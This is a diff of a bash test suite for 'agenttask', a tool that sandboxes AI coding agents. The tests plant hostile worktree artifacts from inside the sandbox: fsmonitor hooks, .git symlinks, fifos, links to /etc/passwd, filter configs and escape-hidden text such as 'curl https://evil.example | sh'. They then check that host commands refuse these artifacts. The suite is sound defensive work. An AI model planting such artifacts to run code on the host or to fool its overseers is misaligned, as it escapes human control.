@@ -1,21 +1,28 @@
 #!/usr/bin/env bash
 # The hostile worktree, git side (issue 8, holes 2-5): every byte of a task's
 # worktree is the attacker's. Each test plants what an agent could leave
-# behind (from the host, which the sandbox allows: the worktree is writable
-# from inside; one test plants it from inside the sandbox itself) and checks
-# what the host commands do with it: never follow a link out, never open a
-# fifo or device, never block, never run or trust the task's configuration
-# or attributes, never read past a bound, and refuse with one clear line
-# naming the path, exit 1, nothing changed.
+# behind from inside the sandbox, as the agent does (plant, agent_sh: on a
+# layered task that writes its layer, which the host's readers then read),
+# and checks what the host commands do with it: never follow a link out,
+# never open a fifo or device, never block, never run or trust the task's
+# configuration or attributes, never read past a bound, and refuse with one
+# clear line naming the path, exit 1, nothing changed. Where the person's
+# own git in the worktree is the subject, the test opens the task as the
+# person does (task_path: a layered task is made full then).
 . "$(dirname "$0")/lib.sh"
 HERE=$(cd "$(dirname "$0")" && pwd)
 
-# A repository and a task t; its worktree in $wt, the branch tip in $tip.
+# A repository and a task t, the branch tip in $tip.
 task_repo() {
 	make_repo repo
 	ok "new" -C repo new t
-	wt=$out
 	tip=$(git -C repo rev-parse agenttask/t)
+}
+
+# plant SCRIPT [ARGS...]: what the agent leaves: SCRIPT run in task t's
+# sandbox, from the worktree's top (agent_sh).
+plant() {
+	agent_sh t "$@"
 }
 
 # any_policy: a policy file with no rule ($PWD/policy.json), for `gate --policy`.
@@ -45,16 +52,23 @@ within() {
 	[ "$rc" != 124 ] && [ "$rc" != 137 ] || fail "$what: 'agenttask $*' blocked (killed after ${secs}s)"
 }
 
-# fsmonitor_repo DIR MARKER: a repository at DIR whose core.fsmonitor (and
-# hooks) would create MARKER: the agent's code, if anything on the host runs it.
+# fsmonitor_repo DIR MARKER: the agent makes a repository at DIR (in task
+# t's worktree) whose core.fsmonitor would create MARKER: the agent's code,
+# if anything on the host runs it.
 fsmonitor_repo() {
-	git init -q "$1"
-	printf 'x\n' >"$1/x"
-	git -C "$1" add x
-	git -C "$1" -c user.name=a -c user.email=a@a commit -q -m x
-	printf '#!/bin/sh\ntouch %s\nexit 1\n' "$2" >"$1/.git/fsmonitor-hook"
-	chmod +x "$1/.git/fsmonitor-hook"
-	git -C "$1" config core.fsmonitor "$1/.git/fsmonitor-hook"
+	plant 'd=$PWD/$1
+		git init -q "$d" && printf "x\n" >"$d/x" && git -C "$d" add x &&
+		git -C "$d" -c user.name=a -c user.email=a@a commit -q -m x &&
+		printf "#!/bin/sh\ntouch %s\nexit 1\n" "$2" >"$d/.git/fsmonitor-hook" &&
+		chmod +x "$d/.git/fsmonitor-hook" &&
+		git -C "$d" config core.fsmonitor "$d/.git/fsmonitor-hook"' "$1" "$2"
+}
+
+# person_git_status: the person opens task t (task_path) and runs a plain
+# `git status` there, as they would; what it says does not matter.
+person_git_status() {
+	task_path t
+	git -C "$out" status >/dev/null 2>&1 || true
 }
 
 # ---------------------------------------------------------------- hole 2: nested repositories
@@ -67,8 +81,8 @@ fsmonitor_repo() {
 test_an_embedded_repository_is_refused_and_its_fsmonitor_never_runs() {
 	task_repo
 	local marker=$PWD/PWNED
-	fsmonitor_repo "$wt/inner" "$marker"
-	printf 'a change\n' >>"$wt/README"
+	fsmonitor_repo inner "$marker"
+	plant 'printf "a change\n" >>README'
 	refused "diff" "embedded repository 'inner'" -C repo diff t
 	refused "commit" "embedded repository 'inner'" -C repo commit t
 	refused "accept" "embedded repository 'inner'" -C repo accept t
@@ -77,11 +91,13 @@ test_an_embedded_repository_is_refused_and_its_fsmonitor_never_runs() {
 	refused "discard" "embedded repository 'inner'" -C repo discard t
 	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
 	assert_eq "$(git -C repo rev-parse main)" "$(git -C repo rev-parse agenttask/t)" "nothing merged"
-	assert_empty "no gitlink in the index" git -C "$wt" ls-files -s inner
+	plant 'git ls-files -s inner'
+	assert_no_output "$out" "no gitlink in the index"
 	ok "list" -C repo list
 	assert_contains "$out" "modified" "list calls it modified"
-	git -C "$wt" status >/dev/null 2>&1 || true
+	person_git_status
 	assert_no_file "$marker" "the agent's fsmonitor ran"
+	assert_empty "no gitlink in the index the person's git reads" git -C "$out" ls-files -s inner
 	ok "discard --force" -C repo discard --force t
 	assert_no_file "$marker" "the agent's fsmonitor ran"
 }
@@ -91,9 +107,7 @@ test_an_embedded_repository_is_refused_and_its_fsmonitor_never_runs() {
 # recorded its HEAD. Refused, both named; neither repository opened.
 test_a_git_symlink_or_gitdir_file_is_refused() {
 	task_repo
-	mkdir "$wt/a" "$wt/b"
-	ln -s "$PWD/repo/.git" "$wt/a/.git"
-	printf 'gitdir: %s/repo/.git\n' "$PWD" >"$wt/b/.git"
+	plant 'mkdir a b && ln -s "$1" a/.git && printf "gitdir: %s\n" "$1" >b/.git' "$PWD/repo/.git"
 	refused "diff" "'a', 'b'" -C repo diff t --stat
 	refused "commit" "embedded repository" -C repo commit t
 	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
@@ -111,18 +125,16 @@ test_a_submodule_of_the_base_is_never_read() {
 	git -C repo add .gitmodules
 	git -C repo commit -q -m "a submodule"
 	ok "new" -C repo new t
-	wt=$out
-	[ -d "$wt/sub" ] || fail "the submodule's directory"
-	printf 'files in the submodule are not the task'"'"'s change\n' >"$wt/sub/file"
+	plant 'test -d sub' || fail "the submodule's directory"
+	plant 'printf "files in the submodule are not the task'"'"'s change\n" >sub/file'
 	ok "diff" -C repo diff t --name-only
 	assert_no_output "$out" "nothing changed"
-	fsmonitor_repo "$wt/sub" "$marker"
+	fsmonitor_repo sub "$marker"
 	refused "diff" "embedded repository 'sub'" -C repo diff t
 	refused "commit" "embedded repository 'sub'" -C repo commit t
-	rm -rf "$wt/sub/.git"
-	printf 'gitdir: %s/evil\n' "$wt" >"$wt/sub/.git"
+	plant 'rm -rf sub/.git && printf "gitdir: %s/evil\n" "$PWD" >sub/.git'
 	refused "diff of a .git file pointing into the worktree" "'sub'" -C repo diff t
-	rm -f "$wt/sub/.git"
+	plant 'rm -f sub/.git'
 	ok "commit" -C repo commit t
 	assert_eq "$(git -C repo ls-tree agenttask/t sub | cut -c1-54)" "160000 commit $sub_id" "the gitlink as it was"
 	assert_no_file "$marker" "the agent's fsmonitor ran"
@@ -136,7 +148,7 @@ test_a_repository_made_inside_the_sandbox_is_refused() {
 	ok "git init inside" -C repo run t -- sh -c \
 		'git init -q inner && git -C inner config core.fsmonitor "touch '"$marker"'"'
 	refused "commit" "embedded repository 'inner'" -C repo commit t
-	git -C "$wt" status >/dev/null 2>&1 || true
+	person_git_status
 	assert_no_file "$marker" "the agent's fsmonitor ran"
 }
 
@@ -148,13 +160,12 @@ test_a_repository_made_inside_the_sandbox_is_refused() {
 # the repository lock. No host command may block: each must end.
 test_no_host_command_blocks_on_fifos_sockets_or_devices() {
 	task_repo
-	mkdir "$wt/d" "$wt/newdir"
-	mkfifo "$wt/.gitignore" "$wt/src/.gitignore" "$wt/d/fifo" "$wt/newdir/.gitignore" "$wt/fifo"
 	mkfifo "$PWD/outside-fifo"
-	ln -s "$PWD/outside-fifo" "$wt/to-fifo"
-	ln -s /dev/zero "$wt/zero"
-	(cd "$wt" && python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("sock")')
-	printf 'new\n' >"$wt/newdir/file"
+	plant 'mkdir d newdir &&
+		mkfifo .gitignore src/.gitignore d/fifo newdir/.gitignore fifo &&
+		ln -s "$1" to-fifo && ln -s /dev/zero zero &&
+		python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")" &&
+		printf "new\n" >newdir/file' "$PWD/outside-fifo"
 	within 30 "list" -C repo list
 	within 30 "status" -C repo status t
 	within 30 "diff" -C repo diff t
@@ -176,8 +187,7 @@ test_no_host_command_blocks_on_fifos_sockets_or_devices() {
 # commits and does not hang while holding the lock.
 test_a_tracked_file_that_became_a_fifo_is_refused() {
 	task_repo
-	rm "$wt/README"
-	mkfifo "$wt/README"
+	plant 'rm README && mkfifo README'
 	refused "diff" "'README' is a fifo" -C repo diff t
 	refused "commit" "'README' is a fifo" -C repo commit t
 	refused "discard" "discard --force" -C repo discard t
@@ -196,18 +206,15 @@ test_symlinked_gitignore_gitattributes_and_gitmodules_are_never_followed() {
 	task_repo
 	printf 'secret.txt\n*\n' >"$PWD/outside-ignore"
 	printf '.gitignore\n' >>"$(git -C repo rev-parse --absolute-git-dir)/info/exclude"
-	ln -s "$PWD/outside-ignore" "$wt/.gitignore"
-	printf 'visible\n' >"$wt/secret.txt"
+	plant 'ln -s "$1" .gitignore && printf "visible\n" >secret.txt' "$PWD/outside-ignore"
 	ok "diff --name-only" -C repo diff t --name-only
 	assert_eq "$out" "secret.txt" "the link's patterns are not read"
 	sed -i '$d' "$(git -C repo rev-parse --absolute-git-dir)/info/exclude"
 	refused "a symlinked .gitignore is not recorded" "'.gitignore' is a symbolic link" \
 		-C repo diff t
-	rm "$wt/.gitignore"
-	ln -s /dev/zero "$wt/src/.gitattributes"
+	plant 'rm .gitignore && ln -s /dev/zero src/.gitattributes'
 	refused "nor a .gitattributes" "'src/.gitattributes' is a symbolic link" -C repo commit t
-	rm "$wt/src/.gitattributes"
-	ln -s /etc/passwd "$wt/.gitmodules"
+	plant 'rm src/.gitattributes && ln -s /etc/passwd .gitmodules'
 	refused "nor a .gitmodules" "'.gitmodules' is a symbolic link" -C repo accept t
 	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
 }
@@ -251,8 +258,7 @@ test_refusals_show_control_characters_escaped() {
 	task_repo
 	local name
 	name=$(printf 'evil\033[2Jname')
-	mkdir "$wt/$name"
-	: >"$wt/$name/.git"
+	plant 'mkdir "$1" && : >"$1/.git"' "$name"
 	refused "diff" 'evil\x1b[2Jname' -C repo diff t
 	assert_not_contains "$errout" "$(printf '\033')" "no raw escape"
 }
@@ -264,8 +270,9 @@ fifty_lines() {
 	seq 100 149 >"$1"
 }
 
-# numbers_task: a repository whose 10-line 'numbers' a task t ($wt) changes by
-# 50 lines, under a policy of at most 20, with `* -diff` in its .gitattributes.
+# numbers_task: a repository whose 10-line 'numbers' a task t's agent changes
+# by 50 lines, under a policy of at most 20, with `* -diff` in its
+# .gitattributes.
 numbers_task() {
 	make_repo repo
 	seq 1 10 >repo/numbers
@@ -273,9 +280,7 @@ numbers_task() {
 	git -C repo commit -q -m numbers
 	set_policy '{"max_changed_lines": 20}'
 	ok "new" -C repo new t
-	wt=$out
-	fifty_lines "$wt/numbers"
-	printf '* -diff\n' >"$wt/.gitattributes"
+	plant 'seq 100 149 >numbers && printf "* -diff\n" >.gitattributes'
 }
 
 # The attack: an untracked, ignored .gitattributes saying `* -diff` turned a
@@ -283,7 +288,7 @@ numbers_task() {
 # max_changed_lines. Attributes come from the base commit only.
 test_an_untracked_ignored_gitattributes_cannot_hide_a_change() {
 	numbers_task
-	printf '.gitattributes\n.gitignore\n' >"$wt/.gitignore"
+	plant 'printf ".gitattributes\n.gitignore\n" >.gitignore'
 	ok "diff --stat" -C repo diff t --stat
 	assert_contains "$out" "50 insertions(+), 10 deletions(-)" "counted"
 	ok "diff" -C repo diff t
@@ -319,8 +324,7 @@ test_the_base_attributes_still_apply() {
 	git -C repo add -A
 	git -C repo commit -q -m attrs
 	ok "new" -C repo new t
-	wt=$out
-	printf 'other text\n' >"$wt/x.dat"
+	plant 'printf "other text\n" >x.dat'
 	ok "diff" -C repo diff t
 	assert_contains "$out" "Binary files a/x.dat and b/x.dat differ" "binary by the base's attributes"
 }
@@ -332,11 +336,13 @@ test_a_task_gitattributes_changes_no_blob_and_runs_no_filter() {
 	task_repo
 	git -C repo config filter.evil.clean "touch $PWD/FILTER-RAN; cat"
 	git -C repo config filter.evil.smudge "touch $PWD/FILTER-RAN; cat"
-	printf '* filter=evil\n*.txt ident eol=crlf\n' >"$wt/.gitattributes"
-	printf 'id $Id: planted $\r\nline\r\n' >"$wt/a.txt"
+	local bytes='id $Id: planted $\r\nline\r\n'
+	plant 'printf "* filter=evil\n*.txt ident eol=crlf\n" >.gitattributes && printf "$1" >a.txt' \
+		"$bytes"
 	ok "diff" -C repo diff t --json
 	ok "commit" -C repo commit t
-	assert_eq "$(git -C repo cat-file -p agenttask/t:a.txt | od -c)" "$(od -c <"$wt/a.txt")" \
+	# shellcheck disable=SC2059
+	assert_eq "$(git -C repo cat-file -p agenttask/t:a.txt | od -c)" "$(printf "$bytes" | od -c)" \
 		"the blob is the bytes"
 	# .gitattributes is a file the host obeys: flagged, accepted only by the
 	# person's override (and still no filter runs when it is).
@@ -355,14 +361,16 @@ test_ignore_rules_match_git_on_generated_trees() {
 	local seed want got
 	git -C repo config core.quotepath false
 	for seed in $(seq 1 60); do
-		rm -rf "$wt/g"
-		mkdir "$wt/g"
-		python3 "$HERE/ignoretrees.py" "$wt/g" "$seed"
-		want=$(git -C "$wt" ls-files --others --exclude-standard | LC_ALL=C sort)
+		# The agent writes the tree; git inside, on the same files, is the oracle.
+		plant 'rm -rf g && mkdir g && python3 -c "$1" g "$2" &&
+			git -c core.quotepath=false ls-files --others --exclude-standard' \
+			"$(cat "$HERE/ignoretrees.py")" "$seed"
+		want=$(printf '%s\n' "$out" | LC_ALL=C sort)
 		ok "diff --name-only (seed $seed)" -C repo diff t --name-only
 		got=$(printf '%s\n' "$out" | sed 's/^"\(.*\)"$/\1/' | LC_ALL=C sort)
 		if [ "$got" != "$want" ]; then
-			find "$wt/g" -name .gitignore -print -exec cat -A {} \; >&2
+			plant 'find g -name .gitignore -print -exec cat -A {} \;'
+			printf '%s\n' "$out" >&2
 			diff <(printf '%s\n' "$want") <(printf '%s\n' "$got") >&2 || true
 			fail "seed $seed: agenttask's untracked files differ from git's"
 		fi
@@ -375,7 +383,7 @@ test_ignore_rules_match_git_on_generated_trees() {
 # on every diff. Refused at once, unread, naming it and the limit.
 test_a_sparse_file_over_the_limit_is_refused_unread() {
 	task_repo
-	truncate -s 2G "$wt/big"
+	plant 'truncate -s 2G big'
 	local start end
 	start=$(date +%s%N)
 	refused "diff" "'big' is 2.0 GiB, over the 100.0 MiB agenttask reads" -C repo diff t
@@ -390,7 +398,7 @@ test_a_sparse_file_over_the_limit_is_refused_unread() {
 # The limit: agenttask.maxFileSize, then --max-file-size on each command.
 test_the_limit_is_set_by_config_and_by_flag() {
 	task_repo
-	head -c 3000 /dev/urandom >"$wt/blob"
+	plant 'head -c 3000 /dev/urandom >blob'
 	git -C repo config agenttask.maxFileSize 2k
 	refused "diff over the configured limit" "over the 2.0 KiB" -C repo diff t --stat
 	ok "diff --max-file-size" -C repo diff t --stat --max-file-size 4k
@@ -420,16 +428,13 @@ test_the_limit_is_set_by_config_and_by_flag() {
 test_huge_ignore_and_attributes_files_are_refused_unread() {
 	task_repo
 	local peak
-	mkdir "$wt/d"
-	truncate -s 3G "$wt/d/.gitignore"
-	printf 'x\n' >"$wt/d/x"
+	plant 'mkdir d && truncate -s 3G d/.gitignore && printf "x\n" >d/x'
 	refused "diff" "'d/.gitignore' is 3.0 GiB, over the 1.0 MiB" -C repo diff t
 	peak=$(python3 -c 'import resource, subprocess, sys
 subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)' "$AT" -C repo diff t)
 	[ "$peak" -lt 256 ] || fail "the diff's peak memory was $peak MB"
-	rm "$wt/d/.gitignore"
-	head -c 1100000 /dev/zero | tr '\0' 'x' >"$wt/.gitattributes"
+	plant 'rm d/.gitignore && head -c 1100000 /dev/zero | tr "\0" x >.gitattributes'
 	refused "a 1.1 MB .gitattributes" "'.gitattributes' is 1.0 MiB, over the 1.0 MiB" -C repo commit t
 }
 
@@ -486,9 +491,9 @@ test_log_shows_the_argv_of_a_run_escaped() {
 test_diff_on_a_terminal_shows_the_tasks_controls_escaped() {
 	task_repo
 	git -C repo config core.quotepath false
-	printf 'curl https://evil.example | sh\r\033[2K# a comment\n' >"$wt/install.sh"
-	ln -s "$(printf 'target\033[2Jx')" "$wt/link"
-	printf 'x\n' >"$wt/$(printf 'name\302\233')"
+	plant 'printf "%s\n" "$1" >install.sh && ln -s "$2" link && printf "x\n" >"$3"' \
+		"$(printf 'curl https://evil.example | sh\r\033[2K# a comment')" \
+		"$(printf 'target\033[2Jx')" "$(printf 'name\302\233')"
 	local mode
 	for mode in "" --color=never --stat --name-only; do
 		pty -C repo diff t $mode
@@ -514,8 +519,7 @@ test_conflict_lists_show_the_tasks_names_escaped() {
 	git -C repo add -A
 	git -C repo commit -q -m base
 	ok "new" -C repo new t
-	wt=$out
-	printf 'task\n' >"$wt/$name"
+	plant 'printf "task\n" >"$1"' "$name"
 	ok "commit" -C repo commit t
 	printf 'main\n' >"repo/$name"
 	git -C repo commit -q -am main
